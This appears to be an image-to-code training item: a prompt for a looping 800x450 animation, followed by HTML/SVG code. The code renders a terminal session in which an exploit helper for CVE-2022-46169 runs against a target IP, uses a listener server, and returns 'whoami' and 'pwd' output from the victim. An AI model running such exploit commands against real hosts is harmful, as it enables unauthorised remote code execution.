
Write an HTML page that moves like this. It is 800x450 px and loops after 8360 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
  svg { display: block; width: 800px; height: 450px; }
  text {
    font: 11.845px "Noto Sans Mono", "DejaVu Sans Mono", monospace;
    font-variant-ligatures: none;
    white-space: pre;
    text-rendering: geometricPrecision;
    fill: #d9dbde;
  }
  .bold { font-weight: 700; fill: #f4f5f6; }
  .user { font-weight: 700; fill: #2878ea; }
  .sign { font: 700 11px "Noto Sans CJK KR", "Noto Sans CJK", "Noto Sans CJK JP", sans-serif; fill: #2878ea; }
  .green { fill: #4d9c91; }
  .cyan { fill: #4a97b8; }
  .rule { fill: none; stroke: #45897f; stroke-width: 1.1; }
</style>
</head>
<body>
<svg viewBox="0 0 800 450">
  <rect width="800" height="450" fill="#000"/>
  <rect x="28.5" y="2" width="743" height="446" fill="#20222c"/>
  <rect x="28.5" y="2" width="743" height="3.2" fill="#2a5db5"/>
  <g id="screen"></g>
  <rect id="cursor" width="7.4" height="13" fill="#f5f6f7"/>
  <g id="pointer" fill="none">
    <path d="M735.5 398H741.5M738.5 398V411.5M735.5 411.5H741.5" stroke="#e4e5e8" stroke-width="3"/>
    <path d="M736 398H741M738.5 398V411.5M736 411.5H741" stroke="#191b22" stroke-width="1"/>
  </g>
</svg>
<script>
const LOOP = 8360, LEFT = 32.5, CELL = 7.107, TOP = 20.2, ROW = 14.25;
const NS = "http://www.w3.org/2000/svg";
const screen = document.getElementById("screen");
const cursor = document.getElementById("cursor");
const pointer = document.getElementById("pointer");
const parts = [], stops = [];

const xOf = col => LEFT + col * CELL;
const yOf = row => TOP + row * ROW;

function add(at, tag, attrs, text = "") {
  const el = document.createElementNS(NS, tag);
  for (const key in attrs) el.setAttribute(key, attrs[key]);
  el.textContent = text;
  screen.appendChild(el);
  parts.push({ at, el });
}

function put(at, row, col, text, cls = "") {
  add(at, "text", { x: xOf(col), y: yOf(row), class: cls }, text);
}

function lines(at, row, list) {
  list.forEach((text, i) => text && put(at, row + i, 0, text));
}

function move(at, row, col = 0) {
  stops.push({ at, row, col });
}

function type(row, col, word, times) {
  times.forEach((at, i) => {
    put(at, row, col + i, word[i]);
    move(at, row, col + i + 1);
  });
}

function prompt(at, row) {
  const y = yOf(row) - 4;
  add(at, "path", { class: "rule", d: `M${xOf(3)} ${y}H36.2V${y + ROW}H${xOf(2)}` });
  put(at, row, 3, "(", "green");
  put(at, row, 4, "tavi", "user");
  put(at, row, 8.1, "㉿", "sign");
  put(at, row, 10, "tavi", "user");
  put(at, row, 14, ")-[", "green");
  put(at, row, 17, "/tmp/ImprovedShell-for-CVE-2022-46169", "bold");
  put(at, row, 54, "]", "green");
  put(at, row + 1, 2, "$", "user");
}

const ASK = "Enter a command to execute on the target: ";

prompt(0, 0);
put(0, 1, 4, "python", "cyan");
put(0, 1, 11, "CVE-2022-46169_helper.py", "bold");
put(0, 1, 37, "--target", "green");
put(0, 1, 46, "http://10.10.11.211");
put(0, 1, 66, "--server", "green");
put(0, 1, 75, "10.10.14.23");
put(0, 1, 87, "--port", "green");
put(0, 1, 94, "8000");
move(0, 1, 98);

move(400, 2);
lines(640, 3, [
  "Current configuration:",
  "  Target: http://10.10.11.211",
  "  Listening Server IP: 10.10.14.23",
  "  Listening Server Port: 8000",
  "",
  "Server is now listening on port:  8000",
  "",
  ASK
]);
move(640, 10, 42);

type(10, 42, "whoami", [2000, 2120, 2200, 2320, 2400, 2480]);
lines(2640, 11, ["[*] Trying host_id: 0"]);
move(2640, 12);
lines(2920, 12, ["[*] Trying host_id: 1"]);
move(2920, 13);
lines(3400, 14, ["Received from victim:", "svc-site"]);
move(3400, 16);
lines(3560, 17, ["[+] Successful exploitation with host_id = 1", ASK]);
move(3560, 18, 42);

type(18, 42, "pwd", [4080, 4200, 4320]);
move(4560, 19);
lines(5200, 20, ["Received from victim:", "/var/www/html", "", ASK]);
move(5200, 23, 42);

type(23, 42, "exit", [5920, 6080, 6280, 6400]);
lines(6720, 25, ["Terminating server..."]);
move(6720, 26);
lines(6960, 26, ["Server terminated :)"]);
move(6960, 27);
prompt(7080, 28);
move(7080, 29, 4);

function draw(t) {
  for (const { at, el } of parts) el.style.display = t >= at ? "" : "none";
  const spot = stops.filter(s => s.at <= t).pop();
  cursor.setAttribute("x", xOf(spot.col) - 0.1);
  cursor.setAttribute("y", yOf(spot.row) - 10.5);
  pointer.style.display = t < 7520 ? "" : "none";
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
draw(0);
requestAnimationFrame(tick);
</script>
</body>
</html>
```
